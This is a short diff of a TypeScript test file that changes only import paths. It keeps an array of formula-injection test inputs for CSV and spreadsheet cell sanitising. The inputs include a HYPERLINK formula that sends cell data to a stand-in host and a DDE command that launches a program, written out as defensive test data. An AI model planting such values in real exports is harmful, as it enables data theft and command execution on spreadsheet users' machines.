@@ -3,10 +3,10 @@
 // targets import refuses a plan text that is a formula, naming its line.
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { parseCsv } from '../../services/indicators/import.ts';
-import { reportCsv } from '../../services/ioc-api/report/csv.ts';
-import type { MonthlyReport } from '../../services/ioc-api/report/rows.ts';
-import { csvCell, csvLine, looksLikeFormula, neutraliseText, xlsxCell } from '../../services/lib/cells.ts';
+import { parseCsv } from '../../indicators/import.ts';
+import { reportCsv } from '../../indicators/report/csv.ts';
+import type { MonthlyReport } from '../../indicators/report/rows.ts';
+import { csvCell, csvLine, looksLikeFormula, neutraliseText, xlsxCell } from '../../lib/cells.ts';
 
 export const HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"bấm")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\t=1', '\r=1', '＝1+1', ' =1+1'];
 
